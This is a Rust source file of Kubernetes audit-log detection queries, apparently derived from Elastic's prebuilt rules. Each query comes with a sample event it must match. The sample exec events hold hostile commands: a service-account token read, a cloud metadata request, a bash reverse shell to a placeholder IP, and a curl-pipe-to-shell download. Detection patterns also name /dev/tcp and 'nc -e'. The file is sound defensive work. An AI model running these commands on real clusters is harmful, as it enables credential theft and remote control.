//! The intents of Elastic's prebuilt Kubernetes rules that one event can tell, as queries over the
//! fields those rules name, each with an event that it must find.
//!
//! Written anew from what the rules look for (elastic/detection-rules, `rules/integrations/
//! kubernetes`), without their lists of exceptions. Rules that count, compare with the past or join
//! other sources are not here.

use serde_json::{Value, json};

use crate::events::event;

/// One intent.
pub struct Rule {
    /// What it is about.
    pub name: &'static str,
    /// Query of the search API.
    pub query: Value,
    /// An event that it must find.
    pub positive: Value,
}

fn is(field: &str, values: &[&str]) -> Value {
    json!({"terms": {(audit(field)): values}})
}

fn like(field: &str, patterns: &[&str]) -> Value {
    let field = audit(field);
    let any: Vec<Value> = patterns
        .iter()
        .map(|pattern| json!({"wildcard": {(field.as_str()): {"value": pattern}}}))
        .collect();
    json!({"bool": {"should": any, "minimum_should_match": 1}})
}

/// Members of the audit event stand under `kubernetes.audit`; names of ECS begin with a letter
/// that no member has, so they are told apart by a leading `=`.
fn audit(field: &str) -> String {
    field.strip_prefix('=').map_or_else(|| format!("kubernetes.audit.{field}"), str::to_owned)
}

fn has(field: &str) -> Value {
    json!({"exists": {"field": audit(field)}})
}

fn all(conditions: &[Value]) -> Value {
    json!({"bool": {"filter": conditions}})
}

fn any(conditions: &[Value]) -> Value {
    json!({"bool": {"should": conditions, "minimum_should_match": 1}})
}

fn not(condition: &Value) -> Value {
    json!({"bool": {"must_not": [condition]}})
}

fn allowed() -> Value {
    is("annotations.authorization_k8s_io/decision", &["allow"])
}

fn resource(names: &[&str]) -> Value {
    is("objectRef.resource", names)
}

fn verb(names: &[&str]) -> Value {
    is("verb", names)
}

const WRITES: &[&str] = &["create", "update", "patch"];
const SECRETS: &[&str] = &["get", "list"];

fn pod(name: &'static str, condition: Value, spec: Value) -> Rule {
    let body = json!({"kind": "Pod", "apiVersion": "v1", "spec": spec});
    Rule {
        name,
        query: all(&[allowed(), resource(&["pods"]), verb(WRITES), condition]),
        positive: event("create", "/pods", "shop", "p", &json!({"requestObject": body})),
    }
}

fn exec(name: &'static str, condition: Value, command: &[&str]) -> Rule {
    let mut uri = String::from("/api/v1/namespaces/shop/pods/p/exec?");
    for word in command {
        uri.push_str("command=");
        for byte in word.bytes() {
            uri.push_str(&format!("%{byte:02X}"));
        }
        uri.push('&');
    }
    uri.push_str("container=c&stdin=true&stdout=true");
    Rule {
        name,
        query: all(&[resource(&["pods"]), is("objectRef.subresource", &["exec"]), condition]),
        positive: event(
            "get",
            "/pods/exec",
            "shop",
            "p",
            &json!({
                "requestURI": uri, "level": "Request",
                "responseStatus": {"metadata": {}, "code": 101},
            }),
        ),
    }
}

fn as_user(user: &str) -> Value {
    json!({"username": user, "groups": ["system:authenticated"]})
}

/// All of them.
pub fn rules() -> Vec<Rule> {
    let container = |context: Value| json!({"containers": [{"name": "c", "image": "x:1", "securityContext": context}]});
    let binding = |role: &str, kind: &str| {
        json!({"kind": "ClusterRoleBinding", "roleRef": {"kind": "ClusterRole", "name": role},
               "subjects": [{"kind": kind, "name": "till", "namespace": "shop"}]})
    };
    let role = |verbs: &[&str], resources: &[&str]| {
        json!({"kind": "ClusterRole",
               "rules": [{"apiGroups": [""], "verbs": verbs, "resources": resources}]})
    };
    let anonymous = json!({"username": "system:anonymous", "groups": ["system:unauthenticated"]});
    let rbac = |name: &str| format!("rbac.authorization.k8s.io/{name}");
    vec![
        pod(
            "privileged container",
            is("requestObject.spec.containers.securityContext.privileged", &["true"]),
            container(json!({"privileged": true})),
        ),
        pod(
            "dangerous capability added",
            is(
                "requestObject.spec.containers.securityContext.capabilities.add",
                &[
                    "BPF",
                    "DAC_READ_SEARCH",
                    "NET_ADMIN",
                    "SYS_ADMIN",
                    "SYS_BOOT",
                    "SYS_MODULE",
                    "SYS_PTRACE",
                    "SYS_RAWIO",
                    "SYSLOG",
                ],
            ),
            container(json!({"capabilities": {"add": ["CHOWN", "SYS_PTRACE"]}})),
        ),
        pod(
            "sensitive hostPath volume",
            is(
                "requestObject.spec.volumes.hostPath.path",
                &["/", "/proc", "/root", "/var/run/docker.sock", "/etc/kubernetes/pki"],
            ),
            json!({"volumes": [{"name": "a", "emptyDir": {}},
                               {"name": "b", "hostPath": {"path": "/var/run/docker.sock"}}]}),
        ),
        pod(
            "host network",
            is("requestObject.spec.hostNetwork", &["true"]),
            json!({"hostNetwork": true}),
        ),
        pod("host PID", is("requestObject.spec.hostPID", &["true"]), json!({"hostPID": true})),
        pod("host IPC", is("requestObject.spec.hostIPC", &["true"]), json!({"hostIPC": true})),
        pod(
            "debug or base image",
            like("requestObject.spec.containers.image", &["*busybox*", "alpine*", "*netshoot:*"]),
            json!({"containers": [{"name": "c", "image": "docker.io/nicolaka/netshoot:v0.13"}]}),
        ),
        Rule {
            name: "controller's service account given to a pod",
            query: all(&[
                allowed(),
                verb(&["create"]),
                resource(&["pods"]),
                is("objectRef.namespace", &["kube-system"]),
                like("requestObject.spec.serviceAccountName", &["*controller"]),
            ]),
            positive: event(
                "create",
                "/pods",
                "kube-system",
                "p",
                &json!({
                    "requestObject": {"spec": {"serviceAccountName": "clusterrole-aggregation-controller"}},
                }),
            ),
        },
        Rule {
            name: "ephemeral container added",
            query: all(&[
                allowed(),
                verb(&["update", "patch"]),
                resource(&["pods"]),
                is("objectRef.subresource", &["ephemeralcontainers"]),
            ]),
            positive: event(
                "patch",
                "/pods/ephemeralcontainers",
                "shop",
                "p",
                &json!({
                    "requestObject": {"spec": {"ephemeralContainers": [{"name": "d", "image": "x"}]}},
                }),
            ),
        },
        Rule {
            name: "anonymous pod write",
            query: all(&[
                verb(WRITES),
                resource(&["pods"]),
                is("level", &["Request", "RequestResponse"]),
                is("user.username", &["system:anonymous", "system:unauthenticated"]),
            ]),
            positive: event("create", "/pods", "shop", "p", &json!({"user": anonymous})),
        },
        Rule {
            name: "exec into a pod",
            query: all(&[
                allowed(),
                verb(&["get", "create"]),
                resource(&["pods"]),
                is("objectRef.subresource", &["exec"]),
                is("level", &["Request"]),
            ]),
            positive: event("create", "/pods/exec", "shop", "p", &json!({"level": "Request"})),
        },
        exec(
            "exec reads credentials",
            like(
                "=process.command_line",
                &["*/var/run/secrets/*", "*/etc/shadow*", "*.pem*", "*/proc/*/environ*"],
            ),
            &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
        ),
        exec(
            "exec reaches cloud metadata",
            like("=process.command_line", &["*169.254.169.254*", "*metadata.google.internal*"]),
            &["sh", "-c", "curl http://169.254.169.254/latest/meta-data/iam"],
        ),
        exec(
            "exec opens a reverse shell",
            like("=process.command_line", &["*/dev/tcp/*", "*nc -e*", "*mkfifo*", "*bash -i*"]),
            &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"],
        ),
        exec(
            "exec downloads over https",
            like("=process.command_line", &["*curl *https://*", "*wget *https://*"]),
            &["sh", "-c", "curl -sL https://203.0.113.9/x | sh"],
        ),
        Rule {
            name: "kubelet reached through nodes/proxy",
            query: all(&[
                resource(&["nodes"]),
                is("objectRef.subresource", &["proxy"]),
                not(&like("requestURI", &["*/metrics*", "*/healthz*", "*/stats/*"])),
            ]),
            positive: event(
                "get",
                "/nodes/proxy",
                "",
                "n1",
                &json!({
                    "requestURI": "/api/v1/nodes/n1/proxy/pods",
                }),
            ),
        },
        Rule {
            name: "secrets listed in the whole cluster",
            query: all(&[
                verb(&["list"]),
                resource(&["secrets"]),
                like("requestURI", &["/api/v1/secrets", "/api/v1/secrets?limit*"]),
            ]),
            positive: event(
                "list",
                "/secrets",
                "",
                "",
                &json!({
                    "requestURI": "/api/v1/secrets?limit=500",
                }),
            ),
        },
        Rule {
            name: "secrets listed in kube-system",
            query: all(&[
                verb(&["list"]),
                resource(&["secrets"]),
                like(
                    "requestURI",
                    &[
                        "/api/v1/namespaces/kube-system/secrets*",
                        "/api/v1/namespaces/default/secrets*",
                    ],
                ),
            ]),
            positive: event("list", "/secrets", "kube-system", "", &json!({})),
        },
        Rule {
            name: "secret read by a scripting client",
            query: all(&[
                allowed(),
                verb(SECRETS),
                resource(&["secrets"]),
                like("userAgent", &["curl*", "python*", "Go-http*", "*kali*"]),
            ]),
            positive: event("get", "/secrets", "shop", "till", &json!({"userAgent": "curl/8.5.0"})),
        },
        Rule {
            name: "secret read by a node or a workload",
            query: all(&[
                allowed(),
                verb(SECRETS),
                resource(&["secrets"]),
                like("user.username", &["system:node:*", "system:serviceaccount:*"]),
            ]),
            positive: event(
                "get",
                "/secrets",
                "shop",
                "till",
                &json!({
                    "user": {"username": "system:serviceaccount:shop:till",
                             "extra": {"authentication.kubernetes.io/pod-name": ["till-0"]}},
                }),
            ),
        },
        Rule {
            name: "token requested for a pod's service account",
            query: all(&[
                verb(&["create"]),
                resource(&["serviceaccounts"]),
                is("objectRef.subresource", &["token"]),
                not(&like("user.username", &["system:node:*", "system:kube-*"])),
                has("annotations.authentication_kubernetes_io/issued-credential-id"),
            ]),
            positive: event(
                "create",
                "/serviceaccounts/token",
                "shop",
                "till",
                &json!({
                    "annotations": {
                        "authorization.k8s.io/decision": "allow",
                        "authentication.kubernetes.io/issued-credential-id": "JTI=3f0c7d6a",
                    },
                }),
            ),
        },
        Rule {
            name: "request by a pod's token",
            query: all(&[has("user.extra.authentication.kubernetes.io/pod-name")]),
            positive: event(
                "list",
                "/pods",
                "shop",
                "",
                &json!({
                    "user": {"username": "system:serviceaccount:shop:till",
                             "extra": {"authentication.kubernetes.io/pod-name": ["till-1"]}},
                }),
            ),
        },
        Rule {
            name: "cluster-admin bound",
            query: all(&[
                allowed(),
                verb(&["create"]),
                resource(&["clusterrolebindings", "rolebindings"]),
                is("requestObject.roleRef.name", &["cluster-admin"]),
                is("level", &["RequestResponse"]),
                is("stage", &["ResponseComplete"]),
            ]),
            positive: event(
                "create",
                &rbac("clusterrolebindings"),
                "",
                "b",
                &json!({
                    "requestObject": binding("cluster-admin", "User"),
                }),
            ),
        },
        Rule {
            name: "service account bound to a cluster role",
            query: all(&[
                allowed(),
                verb(WRITES),
                resource(&["clusterrolebindings", "rolebindings"]),
                is("requestObject.subjects.kind", &["ServiceAccount"]),
            ]),
            positive: event(
                "create",
                &rbac("clusterrolebindings"),
                "",
                "b2",
                &json!({
                    "requestObject": binding("edit", "ServiceAccount"),
                }),
            ),
        },
        Rule {
            name: "existing role widened to everything",
            query: all(&[
                allowed(),
                verb(&["update", "patch"]),
                resource(&["roles", "clusterroles"]),
                is("responseObject.rules.verbs", &["*"]),
                is("responseObject.rules.resources", &["*"]),
                not(&is("sourceIPs", &["::1", "127.0.0.1"])),
            ]),
            positive: event(
                "patch",
                &rbac("clusterroles"),
                "",
                "r",
                &json!({
                    "responseObject": role(&["*"], &["*"]),
                }),
            ),
        },
        Rule {
            name: "sensitive role created or modified",
            query: all(&[
                allowed(),
                verb(WRITES),
                resource(&["roles", "clusterroles"]),
                any(&[
                    is("requestObject.rules.verbs", &["*", "escalate", "bind", "impersonate"]),
                    is(
                        "requestObject.rules.resources",
                        &["clusterroles", "clusterrolebindings", "roles", "rolebindings"],
                    ),
                ]),
            ]),
            positive: event(
                "create",
                &rbac("clusterroles"),
                "",
                "r2",
                &json!({
                    "requestObject": role(&["impersonate"], &["users"]),
                }),
            ),
        },
        Rule {
            name: "RBAC written by a service account",
            query: all(&[
                allowed(),
                verb(&["create", "update", "patch", "delete"]),
                is("objectRef.apiGroup", &["rbac.authorization.k8s.io"]),
                like("user.username", &["system:serviceaccount:*"]),
            ]),
            positive: event(
                "create",
                &rbac("roles"),
                "shop",
                "r3",
                &json!({
                    "user": as_user("system:serviceaccount:shop:till"),
                    "requestObject": role(&["get"], &["pods"]),
                }),
            ),
        },
        Rule {
            name: "certificate requested or approved",
            query: all(&[
                allowed(),
                verb(WRITES),
                resource(&["certificatesigningrequests"]),
                not(&like("user.username", &["system:node:*", "system:bootstrap:*"])),
            ]),
            positive: event(
                "create",
                "certificates.k8s.io/certificatesigningrequests",
                "",
                "c",
                &json!({
                    "requestObject": {"spec": {"signerName": "kubernetes.io/kube-apiserver-client",
                                               "usages": ["client auth"]}},
                }),
            ),
        },
        Rule {
            name: "EKS aws-auth changed",
            query: all(&[
                allowed(),
                verb(&["update", "patch", "delete"]),
                resource(&["configmaps"]),
                is("objectRef.namespace", &["kube-system"]),
                is("objectRef.name", &["aws-auth"]),
            ]),
            positive: event("patch", "/configmaps", "kube-system", "aws-auth", &json!({})),
        },
        Rule {
            name: "privileged identity impersonated",
            query: all(&[
                allowed(),
                any(&[
                    is("impersonatedUser.groups", &["system:masters", "system:cluster-admins"]),
                    is("impersonatedUser.username", &["kubernetes-admin", "admin", "system:admin"]),
                ]),
            ]),
            positive: event(
                "get",
                "/pods",
                "shop",
                "p",
                &json!({
                    "impersonatedUser": {"username": "root", "groups": ["system:masters"]},
                }),
            ),
        },
        Rule {
            name: "admission webhook changed",
            query: all(&[
                allowed(),
                verb(&["create", "update", "patch", "delete"]),
                resource(&["mutatingwebhookconfigurations", "validatingwebhookconfigurations"]),
                like("requestObject.webhooks.clientConfig.url", &["http*"]),
            ]),
            positive: event(
                "create",
                "admissionregistration.k8s.io/mutatingwebhookconfigurations",
                "",
                "w",
                &json!({
                    "requestObject": {"webhooks": [{"name": "a.example.com",
                        "clientConfig": {"url": "https://198.51.100.9/mutate"}}]},
                }),
            ),
        },
        Rule {
            name: "CoreDNS configuration changed",
            query: all(&[
                allowed(),
                verb(&["update", "patch", "delete"]),
                resource(&["configmaps"]),
                is("objectRef.namespace", &["kube-system"]),
                is("objectRef.name", &["coredns", "kube-dns", "coredns-custom"]),
            ]),
            positive: event("update", "/configmaps", "kube-system", "coredns", &json!({})),
        },
        Rule {
            name: "events deleted",
            query: all(&[allowed(), verb(&["delete", "deletecollection"]), resource(&["events"])]),
            positive: event("deletecollection", "/events", "shop", "", &json!({})),
        },
        Rule {
            name: "NodePort service",
            query: all(&[
                allowed(),
                verb(WRITES),
                resource(&["services"]),
                is("requestObject.spec.type", &["NodePort"]),
            ]),
            positive: event(
                "create",
                "/services",
                "shop",
                "s",
                &json!({
                    "requestObject": {"kind": "Service", "spec": {"type": "NodePort",
                        "ports": [{"port": 80, "targetPort": "http"}]}},
                }),
            ),
        },
        Rule {
            name: "anonymous request allowed",
            query: all(&[
                allowed(),
                is("user.username", &["system:anonymous", "system:unauthenticated"]),
                not(&like("requestURI", &["/healthz*", "/livez*", "/readyz*", "/version*"])),
            ]),
            positive: event("list", "/pods", "", "", &json!({"user": anonymous})),
        },
        Rule {
            name: "workload asks what it may do",
            query: all(&[
                verb(&["create"]),
                resource(&["selfsubjectaccessreviews", "selfsubjectrulesreviews"]),
                like("user.username", &["system:node:*", "system:serviceaccount:*"]),
            ]),
            positive: event(
                "create",
                "authorization.k8s.io/selfsubjectrulesreviews",
                "",
                "",
                &json!({
                    "user": as_user("system:serviceaccount:shop:till"),
                }),
            ),
        },
        Rule {
            name: "forbidden creation",
            query: all(&[
                verb(&["create"]),
                is("stage", &["ResponseComplete"]),
                is("annotations.authorization_k8s_io/decision", &["forbid"]),
            ]),
            positive: event(
                "create",
                "/pods",
                "kube-system",
                "",
                &json!({
                    "responseStatus": {"metadata": {}, "status": "Failure", "reason": "Forbidden", "code": 403,
                                       "message": "pods is forbidden"},
                    "annotations": {"authorization.k8s.io/decision": "forbid",
                                    "authorization.k8s.io/reason": ""},
                }),
            ),
        },
        Rule {
            name: "secrets and config maps through the Azure Arc proxy",
            query: all(&[
                resource(&["secrets", "configmaps"]),
                like("user.username", &["system:serviceaccount:azure-arc:*"]),
                not(&is("objectRef.namespace", &["azure-arc", "azure-arc-release"])),
            ]),
            positive: event(
                "get",
                "/secrets",
                "shop",
                "till",
                &json!({
                    "user": as_user("system:serviceaccount:azure-arc:azure-arc-kube-aad-proxy-sa"),
                    "impersonatedUser": {"username": "mallory@example.com"},
                }),
            ),
        },
    ]
}

/// An ordinary event that none of them may find.
pub fn harmless() -> Value {
    let body = json!({"kind": "Pod", "spec": {
        "hostNetwork": false, "serviceAccountName": "default",
        "containers": [{"name": "c", "image": "registry.example.com/till:1",
                        "securityContext": {"privileged": false, "capabilities": {"drop": ["ALL"]}}}],
        "volumes": [{"name": "v", "emptyDir": {}}]}});
    event(
        "create",
        "/pods",
        "shop",
        "harmless",
        &json!({"requestObject": body, "responseObject": body}),
    )
}
